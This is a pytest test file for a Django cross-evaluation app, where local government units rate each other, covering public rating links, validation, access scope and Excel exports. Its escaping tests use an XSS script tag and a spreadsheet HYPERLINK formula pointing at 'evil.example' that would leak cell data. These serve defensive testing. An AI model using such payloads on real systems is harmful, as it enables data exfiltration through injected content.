"""Cross evaluations' pages: the commission's board (missing raters first, the matrix
with 本单位不评), the clerk's entry, the close, the results file; the public rating table
(only the rater's own table, own units never offered, bounds, corrections, a closed or
unknown link answers 404 and stores nothing); and the scope (404 outside)."""

from __future__ import annotations

import io
import re

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from pytest_django.fixtures import Settings

from qingfeng.accounts.roles import Role
from qingfeng.org import services as org_services
from qingfeng.org.models import Unit
from qingfeng.records.models import Record
from qingfeng.surveys.models import CrossEvaluation, CrossRater, CrossRating, RunStatus
from qingfeng.surveys.selectors_cross import rateable_units
from qingfeng.surveys.services_cross import cross_close, ratings_submit
from tests.conftest import client_for, make_user
from tests.surveys.conftest import SurveyWorld
from tests.surveys.cross_helpers import CrossWorld, cross_world, make_cross, rater_of


@pytest.fixture
def cw(survey_world: SurveyWorld) -> CrossWorld:
    return cross_world(survey_world)


@pytest.fixture
def evaluation(cw: CrossWorld) -> CrossEvaluation:
    return make_cross(cw)


def public(rater: CrossRater) -> str:
    return reverse("answer:rater", args=[rater.token])


def detail(evaluation: CrossEvaluation) -> str:
    return reverse("surveys:cross_detail", args=[evaluation.pk])


def rows_of(html: str, testid: str) -> list[str]:
    table = html.split(f'data-testid="{testid}"', 1)[1].split("</table>", 1)[0]
    return re.findall(r"<tr[^>]*>.*?</tr>", table, flags=re.S)


def text(response: object) -> str:
    return response.content.decode()  # type: ignore[attr-defined]


# ---------------------------------------------------------------------------------------
# The public rating table


def test_it_offers_a_rater_only_the_units_it_may_rate(
    evaluation: CrossEvaluation, cw: CrossWorld
) -> None:
    page = text(Client().get(public(rater_of(evaluation, "黎城县第一中学"))))
    assert "2025年第三季度镇街评部门" in page and "黎城县第一中学" in page
    assert "黎城县财政局" in page
    assert "黎城县教育局" not in page  # its parent: own line of the tree
    assert page.count('inputmode="decimal"') == 1
    assert "得分（0—9.5分）" in page
    # Nothing but its own table: no other rater, no mean, no platform link.
    assert "黎侯镇" not in page and "平均" not in page and "/surveys/" not in page


def test_it_never_offers_a_leader_the_unit_of_their_post(evaluation: CrossEvaluation) -> None:
    page = text(Client().get(public(rater_of(evaluation, "王建国"))))
    assert "黎城县财政局" in page
    assert "黎城县教育局" not in page and "黎城县第一中学" not in page


def test_it_refuses_a_crafted_post_rating_an_own_unit_and_stores_nothing(
    evaluation: CrossEvaluation, cw: CrossWorld
) -> None:
    school = rater_of(evaluation, "黎城县第一中学")
    data = {f"u{cw.finance.pk}": "8", f"u{cw.world.org.unit_a1.pk}": "9"}
    response = Client().post(public(school), data)
    assert response.status_code == 200
    assert "评价主体不能评价本单位。" in text(response)
    assert not CrossRating.objects.exists()


@pytest.mark.parametrize(
    ("bad", "message"),
    [
        ("-1", "分值应在0至9.5分之间"),
        ("9.6", "分值应在0至9.5分之间"),
        ("26", "分值应在0至9.5分之间"),
        ("NaN", "“NaN”"),
        ("inf", "“inf”"),
        ("八分", "八分"),
        ("", "请为黎城县第一中学打分"),
    ],
)
def test_it_refuses_points_out_of_bounds_with_a_message(
    evaluation: CrossEvaluation, cw: CrossWorld, bad: str, message: str
) -> None:
    org = cw.world.org
    town = rater_of(evaluation, "黎侯镇")
    data = {f"u{org.unit_a1.pk}": "8", f"u{org.unit_a1_sub.pk}": bad, f"u{cw.finance.pk}": "7"}
    response = Client().post(public(town), data)
    assert response.status_code == 200
    page = text(response)
    error = re.search(rf'data-field="u{org.unit_a1_sub.pk}">([^<]*)</div>', page)
    assert error and message in error[1], page
    assert not CrossRating.objects.exists()
    town.refresh_from_db()
    assert town.submitted_at is None


def test_it_stores_a_table_then_shows_it_prefilled_to_correct_it(
    evaluation: CrossEvaluation, cw: CrossWorld
) -> None:
    org = cw.world.org
    town = rater_of(evaluation, "黎侯镇")
    cells = {f"u{org.unit_a1.pk}": "8", f"u{org.unit_a1_sub.pk}": "7.5", f"u{cw.finance.pk}": "9"}
    client = Client()
    response = client.post(public(town), cells)
    assert response.status_code == 302
    assert response["Location"] == reverse("answer:rater_thanks", args=[town.token])
    assert "您的评分表已提交" in text(client.get(response["Location"]))
    page = text(client.get(public(town)))
    assert f'name="u{org.unit_a1_sub.pk}" value="7.5"' in page
    assert client.post(public(town), {**cells, f"u{cw.finance.pk}": "6"}).status_code == 302
    assert CrossRating.objects.get(rater=town, rated=cw.finance).points == 6.0
    assert CrossRating.objects.filter(rater=town).count() == 3


def test_it_answers_404_for_a_closed_or_unknown_link_and_stores_nothing(
    evaluation: CrossEvaluation, cw: CrossWorld
) -> None:
    town = rater_of(evaluation, "黎侯镇")
    cross_close(evaluation=evaluation, actor=cw.world.admin)
    cells = {f"u{cw.finance.pk}": "8"}
    client = Client()
    assert client.get(public(town)).status_code == 404
    assert client.post(public(town), cells).status_code == 404
    assert client.get(reverse("answer:rater_thanks", args=[town.token])).status_code == 404
    assert client.get(reverse("answer:rater", args=["no-such-token"])).status_code == 404
    assert not CrossRating.objects.exists()


def test_it_refuses_a_table_past_the_links_allowance_with_429(
    evaluation: CrossEvaluation, cw: CrossWorld, settings: Settings
) -> None:
    settings.SURVEY_ANSWERS_PER_MINUTE = 1
    org = cw.world.org
    town = rater_of(evaluation, "东阳关镇")
    cells = {f"u{org.unit_a1.pk}": "8", f"u{org.unit_a1_sub.pk}": "7", f"u{cw.finance.pk}": "9"}
    client = Client()
    assert client.post(public(town), cells).status_code == 302
    again = client.post(public(town), {**cells, f"u{cw.finance.pk}": "1"})
    assert again.status_code == 429
    assert "提交过于频繁" in text(again)
    assert CrossRating.objects.get(rater=town, rated=cw.finance).points == 9.0


# ---------------------------------------------------------------------------------------
# The commission's pages


def test_it_lists_missing_raters_first_with_their_links(
    evaluation: CrossEvaluation, cw: CrossWorld
) -> None:
    org = cw.world.org
    ratings_submit(rater=rater_of(evaluation, "黎城县第一中学"), points={cw.finance.pk: 8})
    ratings_submit(
        rater=rater_of(evaluation, "赵副县长"),
        points={org.unit_a1.pk: 7, org.unit_a1_sub.pk: 8, cw.finance.pk: 9},
    )
    page = text(client_for(cw.world.admin).get(detail(evaluation)))
    rows = rows_of(page, "raters")[1:]
    states = [re.search(r'data-state="(\w+)"', row)[1] for row in rows]  # type: ignore[index]
    assert states == ["missing", "missing", "missing", "submitted", "submitted"]
    missing = {rater.token for rater in evaluation.raters.filter(submitted_at__isnull=True)}
    assert all("table-warning" in row for row in rows[:3])
    assert not any("table-warning" in row for row in rows[3:])
    assert all(f"/s/r/{token}/" in page for token in missing)
    assert "3个未提交" in page


def test_it_shows_each_raters_points_in_one_matrix(
    evaluation: CrossEvaluation, cw: CrossWorld
) -> None:
    ratings_submit(rater=rater_of(evaluation, "黎城县第一中学"), points={cw.finance.pk: 8.5})
    page = text(client_for(cw.world.analyst).get(detail(evaluation)))
    matrix = rows_of(page, "matrix")
    assert len(matrix) == 1 + 5  # a header and one row per rater

    def row_of(name: str) -> str:
        pk = rater_of(evaluation, name).pk
        return next(row for row in matrix if f'data-rater="{pk}"' in row)

    school = row_of("黎城县第一中学")
    assert school.count("本单位不评") == 2 and ">8.5<" in school
    assert row_of("王建国").count("本单位不评") == 2
    assert row_of("赵副县长").count("本单位不评") == 0
    assert row_of("黎侯镇").count("本单位不评") == 0
    # The links are the commission's to hand out: an analyst reads without them.
    assert "/s/r/" not in page


def test_it_lets_the_clerk_type_in_a_paper_table(
    evaluation: CrossEvaluation, cw: CrossWorld
) -> None:
    admin, org = cw.world.admin, cw.world.org
    town = rater_of(evaluation, "东阳关镇")
    url = reverse("surveys:cross_rater_entry", args=[evaluation.pk, town.pk])
    client = client_for(admin)
    assert "东阳关镇的评分表" in text(client.get(url))
    bad = client.post(url, {f"u{org.unit_a1.pk}": "10", f"u{org.unit_a1_sub.pk}": "7"})
    assert bad.status_code == 200 and "分值应在0至9.5分之间" in text(bad)
    assert not CrossRating.objects.exists()
    cells = {f"u{org.unit_a1.pk}": "8", f"u{org.unit_a1_sub.pk}": "7", f"u{cw.finance.pk}": "9"}
    assert client.post(url, cells).status_code == 302
    rating = CrossRating.objects.get(rater=town, rated=cw.finance)
    assert rating.points == 9.0 and rating.history.get().history_user == admin
    town.refresh_from_db()
    assert town.submitted_at is not None


def test_it_closes_by_post_into_one_record_per_rated_unit_and_a_rerun_adds_nothing(
    evaluation: CrossEvaluation, cw: CrossWorld
) -> None:
    org = cw.world.org
    ratings_submit(
        rater=rater_of(evaluation, "黎侯镇"),
        points={org.unit_a1.pk: 8, org.unit_a1_sub.pk: 6, cw.finance.pk: 9},
    )
    ratings_submit(
        rater=rater_of(evaluation, "东阳关镇"),
        points={org.unit_a1.pk: 9, org.unit_a1_sub.pk: 7, cw.finance.pk: 8},
    )
    client = client_for(cw.world.admin)
    url = reverse("surveys:cross_close", args=[evaluation.pk])
    assert client.get(url).status_code == 405
    assert client.post(url).status_code == 302
    records = Record.objects.filter(indicator_code="A3")
    assert sorted((r.unit.code, r.points) for r in records) == [
        ("A1", 8.5),
        ("A1-1", 6.5),
        ("A6", 8.5),
    ]
    evaluation.refresh_from_db()
    assert evaluation.status == RunStatus.CLOSED
    assert client.post(url).status_code == 302
    assert Record.objects.filter(indicator_code="A3").count() == 3
    page = text(client.get(detail(evaluation)))
    assert 'data-testid="close"' not in page and "/s/r/" not in page


def test_it_exports_the_matrix_and_the_means(evaluation: CrossEvaluation, cw: CrossWorld) -> None:
    org = cw.world.org
    ratings_submit(
        rater=rater_of(evaluation, "黎侯镇"),
        points={org.unit_a1.pk: 8, org.unit_a1_sub.pk: 6, cw.finance.pk: 9},
    )
    ratings_submit(rater=rater_of(evaluation, "黎城县第一中学"), points={cw.finance.pk: 7})
    url = reverse("surveys:cross_results_xlsx", args=[evaluation.pk])
    response = client_for(cw.world.analyst).get(url)
    assert "attachment" in response["Content-Disposition"]
    assert "%E4%BA%92%E8%AF%84%E7%BB%93%E6%9E%9C" in response["Content-Disposition"]  # 互评结果
    book = load_workbook(io.BytesIO(response.content))
    means, matrix = book.worksheets
    rows = [row for row in means.iter_rows(values_only=True) if row[0]]
    assert ("黎城县财政局", 2, 8.0, 7.0, 9.0, 9.5) in rows
    cells = [row for row in matrix.iter_rows(values_only=True)]
    header = next(row for row in cells if row[0] == "评价主体")
    assert list(header[2:]) == ["黎城县教育局", "黎城县第一中学", "黎城县财政局"]
    school = next(row for row in cells if row[0] == "黎城县第一中学")
    assert list(school[1:]) == ["是", "本单位不评", "本单位不评", 7.0]
    town = next(row for row in cells if row[0] == "黎侯镇")
    assert list(town[2:]) == [8.0, 6.0, 9.0]


def test_it_gives_a_raters_blank_table_for_paper(
    evaluation: CrossEvaluation, cw: CrossWorld
) -> None:
    school = rater_of(evaluation, "黎城县第一中学")
    url = reverse("surveys:cross_rater_blank", args=[evaluation.pk, school.pk])
    book = load_workbook(io.BytesIO(client_for(cw.world.admin).get(url).content))
    values = [value for row in book.active.iter_rows(values_only=True) for value in row if value]
    assert "黎城县财政局" in values and "黎城县教育局" not in values


def test_it_escapes_hostile_unit_names(cw: CrossWorld) -> None:
    org = cw.world.org
    hostile = '<script>alert("x")</script>局'
    org_services.unit_save(
        unit=Unit(code="A8", name=hostile, category=org.category, region=org.county_a)
    )
    evaluation = make_cross(cw)
    evaluation.rated.add(Unit.objects.get(code="A8"))
    for page in (
        text(client_for(cw.world.admin).get(detail(evaluation))),
        text(Client().get(public(rater_of(evaluation, "黎侯镇")))),
    ):
        assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;局" in page
        assert "<script>alert" not in page


def test_it_creates_an_evaluation_from_the_form(cw: CrossWorld) -> None:
    org = cw.world.org
    client = client_for(cw.world.admin)
    page = text(client.get(reverse("surveys:cross_new")))
    assert "镇街" in page and "政府部门" in page and "王建国" in page
    framework = cw.world.lc.framework
    response = client.post(
        reverse("surveys:cross_new"),
        {
            "code": "HP-NEW",
            "name": "2025年第三季度镇街评部门",
            "region": org.county_a.pk,
            "period": "2025Q3",
            "leaf": f"{framework.pk}:A3",
            "rated_units": [org.unit_a1.pk, cw.finance.pk],
            "rater_units": [org.unit_a2.pk, cw.town2.pk],
            "rater_people": [cw.in_charge.pk],
        },
    )
    evaluation = CrossEvaluation.objects.get(code="HP-NEW")
    assert response.status_code == 302 and response["Location"] == detail(evaluation)
    assert (evaluation.indicator_code, evaluation.full_points) == ("A3", 9.5)
    assert sorted(str(r) for r in evaluation.raters.all()) == sorted(
        ["黎侯镇", "东阳关镇", "赵副县长"]
    )


# ---------------------------------------------------------------------------------------
# The scope


def test_it_answers_404_outside_the_region(evaluation: CrossEvaluation, cw: CrossWorld) -> None:
    outsider = client_for(make_user("admin_b", Role.COMMISSION_ADMIN, region=cw.world.org.county_b))
    rater = rater_of(evaluation, "黎侯镇")
    pk = evaluation.pk
    for name, args in [
        ("surveys:cross_detail", [pk]),
        ("surveys:cross_results_xlsx", [pk]),
        ("surveys:cross_rater_entry", [pk, rater.pk]),
        ("surveys:cross_rater_blank", [pk, rater.pk]),
    ]:
        assert outsider.get(reverse(name, args=args)).status_code == 404, name
    for name, args in [
        ("surveys:cross_close", [pk]),
        ("surveys:cross_rater_add", [pk]),
        ("surveys:cross_rater_remove", [pk, rater.pk]),
    ]:
        assert outsider.post(reverse(name, args=args)).status_code == 404, name
    assert CrossEvaluation.objects.get().status == RunStatus.OPEN
    assert evaluation.raters.count() == 5
    # The county's analyst reads, but does not run it.
    analyst = client_for(cw.world.analyst)
    assert analyst.get(detail(evaluation)).status_code == 200
    entry = reverse("surveys:cross_rater_entry", args=[pk, rater.pk])
    assert analyst.get(entry).status_code == 404
    assert analyst.post(reverse("surveys:cross_close", args=[pk])).status_code == 404


def test_it_adds_and_removes_raters_while_open(evaluation: CrossEvaluation, cw: CrossWorld) -> None:
    org = cw.world.org
    client = client_for(cw.world.admin)
    add = reverse("surveys:cross_rater_add", args=[evaluation.pk])
    # The finance bureau rates the education bureau and its school, not itself.
    assert client.post(add, {"unit": cw.finance.pk}).status_code == 302
    finance = evaluation.raters.get(unit=cw.finance)
    assert [u.name for u in rateable_units(finance)] == ["黎城县教育局", "黎城县第一中学"]
    town = rater_of(evaluation, "黎侯镇")
    ratings_submit(rater=town, points={org.unit_a1.pk: 8, org.unit_a1_sub.pk: 7, cw.finance.pk: 6})
    remove = reverse("surveys:cross_rater_remove", args=[evaluation.pk, town.pk])
    assert client.post(remove).status_code == 302
    assert not CrossRater.objects.filter(pk=town.pk).exists()
    assert not CrossRating.objects.exists()
    assert Client().get(public(town)).status_code == 404


def test_it_writes_hostile_unit_names_into_the_files_as_text(cw: CrossWorld) -> None:
    org = cw.world.org
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    org_services.unit_save(
        unit=Unit(code="A9", name=formula + "\u0001", category=org.township, region=org.county_a)
    )
    hostile = Unit.objects.get(code="A9")
    evaluation = make_cross(cw, rater_units=[org.unit_a2, hostile])
    evaluation.rated.add(hostile)  # (a town rating itself: 本单位不评)
    client = client_for(cw.world.admin)
    rater = rater_of(evaluation, "黎侯镇")  # its blank table lists the hostile town
    for url in (
        reverse("surveys:cross_results_xlsx", args=[evaluation.pk]),
        reverse("surveys:cross_rater_blank", args=[evaluation.pk, rater.pk]),
    ):
        book = load_workbook(io.BytesIO(client.get(url).content))
        cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
        assert not any(cell.data_type == "f" for cell in cells), url
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert "'" + formula in texts, url
        assert not any(text.startswith("=") or "\u0001" in text for text in texts), url
